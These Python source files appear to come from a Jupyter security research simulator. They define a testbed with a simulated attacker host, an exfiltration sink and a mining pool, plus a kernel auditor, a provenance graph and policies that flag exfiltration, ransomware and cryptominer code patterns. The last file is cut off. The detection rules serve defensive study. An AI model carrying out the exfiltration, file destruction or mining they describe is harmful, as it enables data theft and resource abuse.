    ``only_ips`` narrows the vantage: a filtered tap sees only segments
    with one of those IPs as an endpoint (how a per-shard tap sees its
    shard's two legs and nothing else).  Empty = see-all campus tap.
    """

    name: str = "tap0"
    only_ips: Tuple[str, ...] = ()


@dataclass(frozen=True)
class SinkSpec:
    """Attacker-side listener (exfil collector, mining pool, ...)."""

    key: str                    # attribute-ish name, e.g. "exfil_sink"
    host: HostSpec = HostSpec("exfil-sink", "198.51.100.9")
    port: int = 443
    reply: bytes = b""


@dataclass(frozen=True)
class MonitorSpec:
    """Where the paper's monitor sits and how deep it parses.

    The threshold fields are the scale-model calibration shared by every
    topology (see DESIGN.md for the ratio argument): artifacts in the
    testbed are tens of KB, not tens of GB, so volume thresholds scale
    down with them while the attack/benign/threshold *ratios* match a
    real deployment.
    """

    depth: AnalyzerDepth = AnalyzerDepth.JUPYTER
    budget_events_per_second: float = 0.0
    has_session_key: bool = False   # single-server: verify kernel-msg HMACs
    egress_threshold_bytes: int = 20_000
    cusum_baseline: float = 200.0
    cusum_slack: float = 200.0
    cusum_h: float = 30_000.0
    #: Detector re-notify dedupe window: how long a (notice, src, dst)
    #: stays suppressed after firing.  Worlds with an auto-responding
    #: SOC *and* expiring containment want this short — a source that
    #: returns after its block lapses must re-alert or the defender
    #: never re-contains (the adaptive presets set ~45 s).
    renotify_interval: float = 300.0


@dataclass(frozen=True)
class ServerSpec:
    """One standalone Jupyter server (the paper's single-server world)."""

    host: HostSpec = HostSpec("jupyter", "10.0.0.10")
    config: Optional[ServerConfig] = None   # None = tokened unit-test config
    tap: TapSpec = TapSpec("campus-tap")


@dataclass(frozen=True)
class ShardSpec:
    """One hub front-door shard: a proxy host with its own tap."""

    name: str
    host: HostSpec
    tap: TapSpec


@dataclass(frozen=True)
class DecoyTenantSpec:
    """A honeypot tenant: a ``/user/<name>`` route backed by a decoy.

    The decoy is a fully instrumented honeypot server on its own host;
    the hub lists the account like any other, so an attacker sweeping
    tenants burns their source and payloads on it first.
    """

    name: str
    host: HostSpec
    interaction: str = "high"
    #: Extra one-way proxy<->decoy latency the builder installs as a
    #: link override: honeypot instrumentation (recording, emulation)
    #: costs service time a stock single-user server does not pay, and
    #: that asymmetry is exactly the side channel a timing
    #: fingerprinter reads.  0 models a perfectly latency-matched decoy.
    service_latency: float = 0.008


@dataclass(frozen=True)
class HubSpec:
    """A multi-tenant hub: front door(s), spawner fleet, tenants.

    With ``shards`` empty this is the classic one-proxy hub.  With N
    shards the fleet gets N front doors, users are assigned to shards by
    consistent hash, each shard carries its own tap + monitor, and the
    compiled scenario exposes a *merged* fleet monitor view.
    """

    n_tenants: int = 4
    hub_config: Optional[HubConfig] = None
    server_config: Optional[ServerConfig] = None
    tenants_per_node: int = 25
    tenant_prefix: str = "user"
    spawn_all: bool = True
    proxy_host: HostSpec = HostSpec("hub", "10.0.0.2")
    tap: TapSpec = TapSpec("hub-tap")
    shards: Tuple[ShardSpec, ...] = ()
    decoy_tenants: Tuple[DecoyTenantSpec, ...] = ()
    harvest_interval: float = 60.0  # honeypot-intel cadence for decoy tenants


@dataclass(frozen=True)
class TelemetrySpec:
    """The world's measurement plane (see ``repro.telemetry``).

    Enabled by default: the overhead budget (BENCH_OBS guards ≤5% at
    full JUPYTER depth) is priced so every topology can afford it.
    Capacities bound the span store and event timeline rings — raise
    them for long fleet soaks, or set ``enabled=False`` to get the
    shared null telemetry and pay nothing at all.
    """

    enabled: bool = True
    span_capacity: int = 8192
    timeline_capacity: int = 4096
    #: Arm the sim-time/work-unit profiler (``repro obs --flame``).
    #: Off by default: profiled worlds stay byte-identical (the profiler
    #: only counts work), but the hot-path hooks cost a few percent.
    profile: bool = False


@dataclass(frozen=True)
class WorldSpec:
    """The whole world, declaratively.  Exactly one of ``server``/``hub``."""

    name: str
    seed: int = 1337
    default_latency: float = 0.002
    user_host: HostSpec = HostSpec("laptop", "10.0.0.42")
    attacker_host: HostSpec = HostSpec("attacker", "203.0.113.66")
    sinks: Tuple[SinkSpec, ...] = (
        SinkSpec("exfil_sink"),
        SinkSpec("mining_pool", HostSpec("mining-pool", "198.51.100.77"), 3333,
                 b'{"id":1,"result":{"job":"deadbeef"},"error":null}\n'),
    )
    monitor: MonitorSpec = MonitorSpec()
    server: Optional[ServerSpec] = None
    hub: Optional[HubSpec] = None
    seed_data: bool = True
    #: Per-link latency overrides (geo topologies); applied after every
    #: host exists, so entries may name fleet nodes and sink hosts too.
    links: Tuple[LinkSpec, ...] = ()
    #: Automated response: when set, the builder attaches a
    #: :class:`~repro.soc.controller.ResponseController` to the compiled
    #: scenario (``scenario.soc``) — the "defended" topology variants.
    response: Optional[ResponsePolicy] = None
    #: Adaptive adversary: when set, the builder provisions the attacker
    #: population's resources (a rotation pool of source hosts and
    #: pre-compromised tenant credentials) on the compiled scenario —
    #: the "adaptive" topology variants the arms-race runner drives.
    adversary: Optional[AdversaryPolicy] = None
    #: Measurement plane: one shared registry/tracer/timeline per build,
    #: threaded through proxy, wire decoders, monitor, SOC, adversary.
    telemetry: TelemetrySpec = TelemetrySpec()
    #: Traffic-analysis countermeasure: when set, the builder compiles
    #: size-bucket padding + bounded response jitter into every front
    #: door (the ``padded-*`` presets).  Jitter draws come from the
    #: world's seeded RNG, so padded worlds stay byte-reproducible.
    padding: Optional[PaddingPolicy] = None
    #: Service-level objectives: burn-rate-evaluated during SOC polls,
    #: emitting ``SLO_BURN`` notices into the alert correlator.  SLOs
    #: are a telemetry *consumer* that feeds back into the response
    #: loop, so they require both a response policy and enabled
    #: telemetry (enforced below).
    slos: Tuple[SloSpec, ...] = ()

    def __post_init__(self) -> None:
        if (self.server is None) == (self.hub is None):
            raise ValueError(
                f"WorldSpec {self.name!r} needs exactly one of server=/hub=")
        if self.padding is not None and self.hub is None:
            raise ValueError(
                f"WorldSpec {self.name!r}: padding policies need a hub "
                f"topology (shaping is applied at the reverse proxy)")
        if self.hub is not None and self.hub.n_tenants < 1:
            raise ValueError("a hub topology needs at least one tenant")
        if self.response is not None and self.server is not None:
            raise ValueError(
                f"WorldSpec {self.name!r}: response policies need a hub "
                f"topology (containment acts on the proxy/spawner tier)")
        if self.adversary is not None and self.hub is None:
            raise ValueError(
                f"WorldSpec {self.name!r}: adversary policies need a hub "
                f"topology (rotation and tenant-hop act on the hub tier)")
        if self.slos:
            if self.response is None:
                raise ValueError(
                    f"WorldSpec {self.name!r}: SLOs emit SLO_BURN notices "
                    f"through the SOC correlator — add a response policy")
            if not self.telemetry.enabled:
                raise ValueError(
                    f"WorldSpec {self.name!r}: SLOs read the metrics "
                    f"registry — they cannot run with telemetry disabled")
            names = [s.name for s in self.slos]
            if len(set(names)) != len(names):
                raise ValueError(
                    f"duplicate SLO names in {self.name!r}: {names}")
        keys = [s.key for s in self.sinks]
        if len(set(keys)) != len(keys):
            raise ValueError(f"duplicate sink keys in {self.name!r}: {keys}")
        # Every compiled scenario exposes these two sinks as dedicated
        # fields (attacks hard-wire them); extra sinks are fine.
        missing = {"exfil_sink", "mining_pool"} - set(keys)
        if missing:
            raise ValueError(
                f"WorldSpec {self.name!r} must keep the standard sinks "
                f"{sorted(missing)} (add extras alongside, don't replace)")

    @property
    def kind(self) -> str:
        if self.server is not None:
            return "single-server"
        assert self.hub is not None
        if self.hub.decoy_tenants and self.hub.shards:
            return "sharded-honeypot-hub"
        if self.hub.decoy_tenants:
            return "honeypot-hub"
        return "sharded-hub" if self.hub.shards else "hub"

    @property
    def defended(self) -> bool:
        return self.response is not None and self.response.enabled

    @property
    def adaptive(self) -> bool:
        return self.adversary is not None
