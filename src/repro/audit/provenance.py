"""System provenance over kernel activity.

Implements the Bates-style provenance graph the paper's related work
points to: a typed DAG of executions, files, and network endpoints.
networkx supplies the graph substrate; queries answer the incident-
response questions NCSA analysts actually ask — "what touched this file
before it was encrypted?", "which executions talked to that host?",
"what did this session exfiltrate?".
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional, Set, Tuple

import networkx as nx


class ProvenanceGraph:
    """Typed provenance DAG.

    Node ids: ``exec:<n>``, ``file:<path>``, ``host:<ip:port>``,
    ``user:<name>``.  Edge relations: ``read``, ``wrote``, ``deleted``,
    ``renamed_to``, ``connected``, ``sent``, ``ran`` (user→exec).
    """

    def __init__(self) -> None:
        self.g = nx.MultiDiGraph()

    # -- construction ------------------------------------------------------------
    def add_execution(self, exec_id: int, *, user: str, ts: float, code_preview: str = "") -> str:
        node = f"exec:{exec_id}"
        self.g.add_node(node, kind="execution", ts=ts, code=code_preview[:200])
        user_node = f"user:{user}"
        self.g.add_node(user_node, kind="user")
        self.g.add_edge(user_node, node, relation="ran", ts=ts)
        return node

    def record_read(self, exec_id: int, path: str, ts: float, nbytes: int = 0) -> None:
        self._file_edge(exec_id, path, "read", ts, nbytes, reverse=True)

    def record_write(self, exec_id: int, path: str, ts: float, nbytes: int = 0) -> None:
        self._file_edge(exec_id, path, "wrote", ts, nbytes)

    def record_delete(self, exec_id: int, path: str, ts: float) -> None:
        self._file_edge(exec_id, path, "deleted", ts, 0)

    def record_rename(self, exec_id: int, src: str, dst: str, ts: float) -> None:
        self._file_edge(exec_id, src, "renamed_from", ts, 0, reverse=True)
        self._file_edge(exec_id, dst, "renamed_to", ts, 0)
        self.g.add_edge(f"file:{src}", f"file:{dst}", relation="became", ts=ts)

    def record_connect(self, exec_id: int, host: str, port: int, ts: float) -> None:
        node = f"host:{host}:{port}"
        self.g.add_node(node, kind="host")
        self.g.add_edge(f"exec:{exec_id}", node, relation="connected", ts=ts)

    def record_send(self, exec_id: int, host: str, port: int, ts: float, nbytes: int) -> None:
        node = f"host:{host}:{port}"
        self.g.add_node(node, kind="host")
        self.g.add_edge(f"exec:{exec_id}", node, relation="sent", ts=ts, nbytes=nbytes)

    def _file_edge(self, exec_id: int, path: str, relation: str, ts: float,
                   nbytes: int, *, reverse: bool = False) -> None:
        exec_node = f"exec:{exec_id}"
        file_node = f"file:{path}"
        if exec_node not in self.g:
            self.g.add_node(exec_node, kind="execution", ts=ts)
        self.g.add_node(file_node, kind="file")
        if reverse:
            self.g.add_edge(file_node, exec_node, relation=relation, ts=ts, nbytes=nbytes)
        else:
            self.g.add_edge(exec_node, file_node, relation=relation, ts=ts, nbytes=nbytes)

    # -- queries -------------------------------------------------------------------
    def executions_touching(self, path: str) -> List[str]:
        """All executions that read/wrote/deleted/renamed ``path``."""
        file_node = f"file:{path}"
        if file_node not in self.g:
            return []
        execs: Set[str] = set()
        for u, v, data in self.g.in_edges(file_node, data=True):
            if u.startswith("exec:"):
                execs.add(u)
        for u, v, data in self.g.out_edges(file_node, data=True):
            if v.startswith("exec:"):
                execs.add(v)
        return sorted(execs, key=lambda e: int(e.split(":")[1]))

    def external_contacts(self, exec_id: Optional[int] = None) -> List[Tuple[str, int]]:
        """Hosts contacted, optionally restricted to one execution."""
        out = []
        for u, v, data in self.g.edges(data=True):
            if v.startswith("host:") and data.get("relation") in ("connected", "sent"):
                if exec_id is not None and u != f"exec:{exec_id}":
                    continue
                _, host, port = v.split(":", 2)
                out.append((host, int(port)))
        return sorted(set(out))

    def bytes_sent_to(self, host: str, port: int) -> int:
        node = f"host:{host}:{port}"
        if node not in self.g:
            return 0
        return sum(d.get("nbytes", 0) for _, _, d in self.g.in_edges(node, data=True)
                   if d.get("relation") == "sent")

    def exfil_lineage(self, host: str, port: int) -> List[str]:
        """Files plausibly exfiltrated to ``host:port``: files read by any
        execution that also sent bytes there."""
        node = f"host:{host}:{port}"
        if node not in self.g:
            return []
        senders = {u for u, _, d in self.g.in_edges(node, data=True)
                   if d.get("relation") in ("sent", "connected")}
        files: Set[str] = set()
        for exec_node in senders:
            for u, v, d in self.g.in_edges(exec_node, data=True):
                if u.startswith("file:") and d.get("relation") == "read":
                    files.add(u[len("file:"):])
        return sorted(files)

    def file_history(self, path: str) -> List[Dict[str, Any]]:
        """Time-ordered events on a file (the ransomware forensics view)."""
        file_node = f"file:{path}"
        events = []
        if file_node not in self.g:
            return []
        for u, v, d in list(self.g.in_edges(file_node, data=True)) + list(self.g.out_edges(file_node, data=True)):
            other = u if v == file_node else v
            events.append({"ts": d.get("ts", 0.0), "relation": d.get("relation"),
                           "exec": other, "nbytes": d.get("nbytes", 0)})
        return sorted(events, key=lambda e: e["ts"])

    def users_of(self, exec_node: str) -> List[str]:
        return sorted(u[len("user:"):] for u, _, d in self.g.in_edges(exec_node, data=True)
                      if d.get("relation") == "ran")

    # -- stats -----------------------------------------------------------------------
    def node_counts(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for _, data in self.g.nodes(data=True):
            counts[data.get("kind", "?")] = counts.get(data.get("kind", "?"), 0) + 1
        return counts

    def edge_count(self) -> int:
        return self.g.number_of_edges()
