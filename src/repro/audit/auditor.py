"""KernelAuditor: the embedded tracer wired into a live kernel.

Attachment points (mirroring where a real IPython tracer would hook):

1. **pre-execute** — static features + policy evaluation; DENY verdicts
   raise :class:`~repro.util.errors.SecurityViolation` so the cell never
   runs.
2. **world events** — every file/net syscall-level event feeds the
   provenance graph and the runtime behaviour counters.
3. **post-execute** — resource usage joins the static features into one
   :class:`AuditRecord`; runtime policies (CPU abuse) evaluate here.

The auditor can forward file writes to a network monitor's entropy
detector, closing the loop between the paper's two proposed tools.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

from repro.audit.features import CodeFeatures, extract_features
from repro.audit.policy import PolicyAction, PolicyEngine, PolicyVerdict
from repro.audit.provenance import ProvenanceGraph
from repro.kernel.runtime import KernelRuntime
from repro.kernel.world import KernelEvent
from repro.monitor.logs import Notice
from repro.taxonomy.oscrp import Avenue
from repro.util.errors import SecurityViolation


@dataclass
class AuditRecord:
    """One cell execution, fully described."""

    execution_id: int
    ts: float
    username: str
    code: str
    features: CodeFeatures
    verdicts: List[PolicyVerdict] = field(default_factory=list)
    denied: bool = False
    status: str = ""
    resources: Dict[str, float] = field(default_factory=dict)
    events: List[KernelEvent] = field(default_factory=list)


#: Sustained CPU (simulated seconds per execution) beyond which the
#: runtime cpu-abuse policy fires.  Calibrated against the meter's
#: 1e6 ops/cpu-second: typical analysis cells land in the millisecond
#: range, miners in whole seconds.
CPU_ABUSE_SECONDS = 1.0


class KernelAuditor:
    """Attach once per kernel; collects records for the kernel's lifetime."""

    def __init__(self, kernel: KernelRuntime, *, policy_engine: Optional[PolicyEngine] = None,
                 enforce: bool = False, monitor=None):
        from repro.audit.policy import default_policies

        self.kernel = kernel
        self.policies = policy_engine or PolicyEngine(default_policies(enforce=enforce))
        self.provenance = ProvenanceGraph()
        self.records: List[AuditRecord] = []
        self.notices: List[Notice] = []
        self.monitor = monitor  # optional JupyterNetworkMonitor for cross-plane feed
        self._exec_counter = 0
        self._current: Optional[AuditRecord] = None
        kernel.pre_execute_hooks.append(self._pre_execute)
        kernel.world.subscribe(self._on_event)

    # -- hooks ---------------------------------------------------------------------
    def _notice(self, notice: Notice) -> None:
        """Record an audit notice locally and, when a network monitor is
        attached, into its notice log too — the unified alert stream an
        analyst actually watches."""
        self.notices.append(notice)
        if self.monitor is not None:
            self.monitor.logs.notices.append(notice)

    def _pre_execute(self, code: str) -> None:
        self._exec_counter += 1
        features = extract_features(code)
        # Attribute to the requesting session's username, not the kernel's
        # own identity — stolen-session attacks are the whole point.
        username = self.kernel.current_username or self.kernel.session.username
        record = AuditRecord(
            execution_id=self._exec_counter,
            ts=self.kernel.world.clock.now(),
            username=username,
            code=code,
            features=features,
        )
        record.verdicts = self.policies.evaluate(features)
        self.records.append(record)
        self._current = record
        self.provenance.add_execution(record.execution_id, user=record.username,
                                      ts=record.ts, code_preview=code)
        for verdict in record.verdicts:
            self._notice(Notice(
                ts=record.ts, detector="kernel-audit", name=f"POLICY_{verdict.policy.upper().replace('-', '_')}",
                severity=verdict.severity, src=username or "kernel", avenue=verdict.avenue,
                detail={"reason": verdict.reason, "execution": record.execution_id,
                        "action": verdict.action.value},
            ))
        denies = [v for v in record.verdicts if v.action == PolicyAction.DENY]
        if denies:
            record.denied = True
            raise SecurityViolation(
                f"denied by policy {denies[0].policy}: {denies[0].reason}",
                policy=denies[0].policy,
            )

    def _on_event(self, event: KernelEvent) -> None:
        record = self._current
        if record is None:
            return
        if event.kind == "exec_start":
            return
        record.events.append(event)
        eid = record.execution_id
        d = event.detail
        if event.kind == "file_read":
            self.provenance.record_read(eid, d["path"], event.ts, d.get("nbytes", 0))
        elif event.kind == "file_write":
            self.provenance.record_write(eid, d["path"], event.ts, d.get("nbytes", 0))
            if self.monitor is not None:
                content = b""
                try:
                    content = self.kernel.world.fs.read(d["path"])
                except Exception:
                    pass
                self.monitor.observe_file_write(event.ts, d["path"], content)
        elif event.kind == "file_delete":
            self.provenance.record_delete(eid, d["path"], event.ts)
        elif event.kind == "file_rename":
            self.provenance.record_rename(eid, d["src"], d["dst"], event.ts)
        elif event.kind == "net_connect":
            self.provenance.record_connect(eid, d["host"], d["port"], event.ts)
        elif event.kind == "net_send":
            self.provenance.record_send(eid, d["host"], d["port"], event.ts, d.get("nbytes", 0))
        elif event.kind == "exec_end":
            self._post_execute(record, d)

    def _post_execute(self, record: AuditRecord, detail: Dict[str, Any]) -> None:
        record.status = str(detail.get("status", ""))
        if self.kernel.history:
            last = self.kernel.history[-1]
            # history may lag during denied executions; match loosely on code
            if last.code == record.code:
                record.resources = dict(last.resources)
        meter = self.kernel.interp.meter
        cpu = meter.cpu_seconds
        record.resources.setdefault("cpu_seconds", cpu)
        if cpu >= CPU_ABUSE_SECONDS:
            self._notice(Notice(
                ts=self.kernel.world.clock.now(), detector="kernel-audit",
                name="CPU_ABUSE", severity="high", src=record.username or "kernel",
                avenue=Avenue.CRYPTOMINING,
                detail={"cpu_seconds": round(cpu, 3), "execution": record.execution_id,
                        "hash_calls": meter.hash_calls},
            ))
        self._current = None

    # -- reporting --------------------------------------------------------------------
    def notice_names(self) -> List[str]:
        return [n.name for n in self.notices]

    def denied_count(self) -> int:
        return sum(1 for r in self.records if r.denied)

    def records_with_verdicts(self) -> List[AuditRecord]:
        return [r for r in self.records if r.verdicts]

    def summary(self) -> Dict[str, Any]:
        return {
            "executions": len(self.records),
            "denied": self.denied_count(),
            "alerted": len(self.records_with_verdicts()),
            "notices": sorted({n.name for n in self.notices}),
            "provenance_nodes": self.provenance.node_counts(),
            "provenance_edges": self.provenance.edge_count(),
        }
