"""Audit policies: declarative rules over code features and runtime events.

Two enforcement modes, matching how HPC sites actually roll out controls:
``ALERT`` (monitor-only; the default for research environments where
false positives cost science) and ``DENY`` (the pre-execute hook raises
``SecurityViolation`` so the cell never runs).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Callable, Dict, List, Optional

from repro.audit.features import CodeFeatures
from repro.taxonomy.oscrp import Avenue


class PolicyAction(str, Enum):
    ALERT = "alert"
    DENY = "deny"


@dataclass
class PolicyVerdict:
    policy: str
    action: PolicyAction
    reason: str
    severity: str = "high"
    avenue: Optional[Avenue] = None


@dataclass
class Policy:
    """One rule: a predicate over features plus metadata."""

    name: str
    description: str
    predicate: Callable[[CodeFeatures], bool]
    action: PolicyAction = PolicyAction.ALERT
    severity: str = "high"
    avenue: Optional[Avenue] = None

    def evaluate(self, features: CodeFeatures) -> Optional[PolicyVerdict]:
        if self.predicate(features):
            return PolicyVerdict(self.name, self.action, self.description,
                                 self.severity, self.avenue)
        return None


def default_policies(*, enforce: bool = False) -> List[Policy]:
    """The shipped rule set; ``enforce=True`` upgrades DENY-able rules."""
    deny = PolicyAction.DENY if enforce else PolicyAction.ALERT
    return [
        Policy(
            "proc-spawn",
            "cell attempts to spawn a process (os.system)",
            lambda f: f.sensitive_calls.get("proc", 0) > 0,
            action=deny, severity="critical", avenue=Avenue.ZERO_DAY,
        ),
        Policy(
            "mass-file-overwrite",
            "cell opens an unusual number of files for writing",
            lambda f: f.open_write_count >= 5,
            action=deny, severity="critical", avenue=Avenue.RANSOMWARE,
        ),
        Policy(
            "file-destruction",
            "cell deletes or renames many files",
            lambda f: (f.sensitive_calls.get("file-delete", 0)
                       + f.sensitive_calls.get("file-rename", 0)) >= 3,
            action=PolicyAction.ALERT, severity="high", avenue=Avenue.RANSOMWARE,
        ),
        Policy(
            "miner-shape",
            "hash computation inside a loop (cryptominer structure)",
            lambda f: f.miner_shape_score() >= 0.5,
            action=PolicyAction.ALERT, severity="high", avenue=Avenue.CRYPTOMINING,
        ),
        Policy(
            "net-plus-file-read",
            "cell both reads files and opens network connections (exfil shape)",
            lambda f: f.sensitive_calls.get("net", 0) > 0
            and (f.sensitive_calls.get("file-open", 0) - f.open_write_count) > 0,
            action=PolicyAction.ALERT, severity="high", avenue=Avenue.DATA_EXFILTRATION,
        ),
        Policy(
            "obfuscated-payload",
            "cell carries large high-entropy string constants",
            lambda f: f.obfuscation_score() >= 0.6,
            action=PolicyAction.ALERT, severity="medium", avenue=Avenue.ZERO_DAY,
        ),
    ]


class PolicyEngine:
    """Evaluates all policies against one cell's features."""

    def __init__(self, policies: Optional[List[Policy]] = None):
        self.policies = policies if policies is not None else default_policies()
        self.hits: Dict[str, int] = {}

    def add(self, policy: Policy) -> None:
        self.policies.append(policy)

    def evaluate(self, features: CodeFeatures) -> List[PolicyVerdict]:
        verdicts = []
        for policy in self.policies:
            verdict = policy.evaluate(features)
            if verdict is not None:
                verdicts.append(verdict)
                self.hits[policy.name] = self.hits.get(policy.name, 0) + 1
        return verdicts
