"""Static feature extraction over cell ASTs.

The auditor inspects every cell *before* execution (the embedded-tracer
design).  Features are deliberately interpretable — the paper's HPC
security context wants explainable alerts, not a black box:

- imported module set,
- sensitive call patterns (``os.system``, ``socket.connect``, writes),
- string-literal statistics (count, max entropy → obfuscation signal),
- structural signals (loops wrapping hash calls → miner shape),
- total node count (code-size normalization).
"""

from __future__ import annotations

import ast
import math
from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, List, Set

from repro.util.entropy import shannon_entropy

#: Calls the auditor treats as sensitive, by dotted name.
SENSITIVE_CALLS = {
    "os.system": "proc",
    "os.remove": "file-delete",
    "os.unlink": "file-delete",
    "os.rename": "file-rename",
    "socket.socket": "net",
    "requests.get": "net",
    "requests.post": "net",
    "requests.put": "net",
    "open": "file-open",
}

HASH_FUNCTIONS = {"sha256", "sha1", "md5", "sha512"}


@dataclass
class CodeFeatures:
    """Interpretable features of one cell."""

    imports: Set[str] = field(default_factory=set)
    sensitive_calls: Counter = field(default_factory=Counter)  # category -> count
    call_names: Counter = field(default_factory=Counter)        # dotted name -> count
    open_write_count: int = 0
    string_count: int = 0
    max_string_entropy: float = 0.0
    total_string_bytes: int = 0
    has_loop: bool = False
    hash_calls_in_loop: int = 0
    loop_depth_max: int = 0
    node_count: int = 0
    syntax_error: bool = False

    def obfuscation_score(self) -> float:
        """0..1 score: long high-entropy strings suggest packed payloads."""
        if self.total_string_bytes < 100:
            return 0.0
        entropy_part = max(0.0, (self.max_string_entropy - 4.5) / 3.5)
        size_part = min(1.0, self.total_string_bytes / 10_000)
        return min(1.0, 0.7 * entropy_part + 0.3 * size_part)

    def miner_shape_score(self) -> float:
        """0..1 score: hash calls inside loops are the miner fingerprint."""
        if self.hash_calls_in_loop == 0:
            return 0.0
        return min(1.0, 0.5 + 0.25 * self.loop_depth_max + 0.05 * self.hash_calls_in_loop)


def _dotted_name(node: ast.expr) -> str:
    parts: List[str] = []
    cur = node
    while isinstance(cur, ast.Attribute):
        parts.append(cur.attr)
        cur = cur.value
    if isinstance(cur, ast.Name):
        parts.append(cur.id)
    return ".".join(reversed(parts))


class _FeatureVisitor(ast.NodeVisitor):
    def __init__(self, features: CodeFeatures):
        self.f = features
        self.loop_depth = 0

    def generic_visit(self, node: ast.AST) -> None:
        self.f.node_count += 1
        super().generic_visit(node)

    def visit_Import(self, node: ast.Import) -> None:
        for alias in node.names:
            self.f.imports.add(alias.name.split(".")[0])
        self.generic_visit(node)

    def visit_ImportFrom(self, node: ast.ImportFrom) -> None:
        if node.module:
            self.f.imports.add(node.module.split(".")[0])
        self.generic_visit(node)

    def _enter_loop(self, node: ast.AST) -> None:
        self.loop_depth += 1
        self.f.has_loop = True
        self.f.loop_depth_max = max(self.f.loop_depth_max, self.loop_depth)
        self.generic_visit(node)
        self.loop_depth -= 1

    visit_For = _enter_loop
    visit_While = _enter_loop

    def visit_Call(self, node: ast.Call) -> None:
        name = _dotted_name(node.func)
        if name:
            self.f.call_names[name] += 1
            if name in SENSITIVE_CALLS:
                self.f.sensitive_calls[SENSITIVE_CALLS[name]] += 1
            last = name.rsplit(".", 1)[-1]
            if last in HASH_FUNCTIONS and self.loop_depth > 0:
                self.f.hash_calls_in_loop += 1
        if name == "open" and len(node.args) >= 2:
            mode = node.args[1]
            if isinstance(mode, ast.Constant) and isinstance(mode.value, str) and (
                "w" in mode.value or "a" in mode.value
            ):
                self.f.open_write_count += 1
        self.generic_visit(node)

    def visit_Constant(self, node: ast.Constant) -> None:
        if isinstance(node.value, (str, bytes)) and len(node.value) > 0:
            raw = node.value.encode("utf-8", "replace") if isinstance(node.value, str) else node.value
            self.f.string_count += 1
            self.f.total_string_bytes += len(raw)
            if len(raw) >= 32:
                self.f.max_string_entropy = max(self.f.max_string_entropy, shannon_entropy(raw))
        self.generic_visit(node)


def extract_features(code: str) -> CodeFeatures:
    """Parse ``code`` and compute its :class:`CodeFeatures`.

    A cell that does not parse gets ``syntax_error=True`` and otherwise
    empty features — the kernel will reject it anyway.
    """
    features = CodeFeatures()
    try:
        tree = ast.parse(code)
    except SyntaxError:
        features.syntax_error = True
        return features
    _FeatureVisitor(features).visit(tree)
    return features
