"""The Jupyter kernel auditing tool (the paper's §IV.B second proposal).

"An embedded tracing tool must be embedded in Jupyter kernel (starting
with Python kernel) to enable extensive logging of user commands."
This package is that tool, realized against the simulated kernel:

- :mod:`repro.audit.features` — static AST features of each cell
  (imports, dangerous calls, string obfuscation, loop×hash structure).
- :mod:`repro.audit.policy` — allow/alert/deny rules over features and
  runtime behaviour, with enforce and monitor-only modes.
- :mod:`repro.audit.provenance` — a networkx provenance graph linking
  executions to the files and hosts they touched.
- :mod:`repro.audit.auditor` — :class:`KernelAuditor`, which hooks a
  :class:`~repro.kernel.runtime.KernelRuntime` end to end.
"""

from repro.audit.auditor import AuditRecord, KernelAuditor
from repro.audit.features import CodeFeatures, extract_features
from repro.audit.policy import Policy, PolicyAction, PolicyEngine, default_policies
from repro.audit.provenance import ProvenanceGraph

__all__ = [
    "KernelAuditor",
    "AuditRecord",
    "CodeFeatures",
    "extract_features",
    "Policy",
    "PolicyAction",
    "PolicyEngine",
    "default_policies",
    "ProvenanceGraph",
]
