"""Hub-level misconfiguration checks (the HUB- catalogue).

The paper's third headline avenue, one layer up: a multi-tenant hub
concentrates hundreds of servers behind one proxy, so a single hub knob
set wrong is a fleet-wide exposure.  Every check is a pure function over
:class:`~repro.hub.users.HubConfig`, mirroring the JPT- catalogue's
shape so the scanner can score and render both kinds of report with the
same machinery.
"""

from __future__ import annotations

from typing import Callable, List

from repro.crypto.passwords import token_entropy_bits
from repro.hub.users import HubConfig
from repro.misconfig.checks import CheckResult, Severity, _result


def check_signup_mode(cfg: HubConfig) -> CheckResult:
    ok = cfg.signup_mode != "open"
    return _result("HUB-001", "signup is invite-only", ok, Severity.HIGH,
                   "open signup: anyone on the network mints an account (and a "
                   "server) on your hardware",
                   "set signup to invite/allowlist; review existing accounts")


def check_per_user_tokens(cfg: HubConfig) -> CheckResult:
    ok = cfg.per_user_tokens
    return _result("HUB-002", "per-user API tokens", ok, Severity.CRITICAL,
                   "all tenants share the hub API token: one phished laptop "
                   "opens every server (cross-tenant pivot)",
                   "issue per-user tokens; rotate the hub service token")


def check_proxy_auth(cfg: HubConfig) -> CheckResult:
    ok = cfg.proxy_auth_required
    return _result("HUB-003", "proxy authenticates at the edge", ok, Severity.CRITICAL,
                   "the reverse proxy relays /user/<name> traffic without "
                   "checking credentials — tenant isolation is advisory",
                   "require a valid token at the proxy before routing")


def check_culling(cfg: HubConfig) -> CheckResult:
    ok = cfg.culling_enabled
    return _result("HUB-004", "idle servers are culled", ok, Severity.LOW,
                   "no idle culling: abandoned servers accumulate as standing "
                   "attack surface (a leaked token stays useful indefinitely)",
                   "enable the idle culler with a sensible timeout")


def check_server_ceiling(cfg: HubConfig) -> CheckResult:
    ok = cfg.max_servers > 0
    return _result("HUB-005", "bounded concurrent servers", ok, Severity.MEDIUM,
                   "no ceiling on spawned servers: signup + spawn is a "
                   "resource-exhaustion DoS",
                   "set max_servers to provisioned capacity")


def check_hub_token_strength(cfg: HubConfig) -> CheckResult:
    bits = token_entropy_bits(cfg.api_token) if cfg.api_token else 0.0
    ok = bits >= 64
    return _result("HUB-006", "hub API token strength", ok, Severity.HIGH,
                   f"hub service token carries ~{bits:.0f} bits of entropy — "
                   "guessable, and it is admin-equivalent",
                   "generate with secrets.token_urlsafe and store it secretly")


ALL_HUB_CHECKS: List[Callable[[HubConfig], CheckResult]] = [
    check_signup_mode,
    check_per_user_tokens,
    check_proxy_auth,
    check_culling,
    check_server_ceiling,
    check_hub_token_strength,
]


def run_hub_checks(cfg: HubConfig) -> List[CheckResult]:
    return [check(cfg) for check in ALL_HUB_CHECKS]
