"""The check catalogue.

Every check is a pure function over :class:`ServerConfig` returning a
:class:`CheckResult` (pass/fail + severity + remediation).  Severity
weights follow CVSS bands; the scanner sums them into a risk score.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Callable, List, Optional

from repro.crypto.passwords import parse_hash_rounds, token_entropy_bits
from repro.server.config import LATEST_VERSION, ServerConfig


class Severity(str, Enum):
    INFO = "info"
    LOW = "low"
    MEDIUM = "medium"
    HIGH = "high"
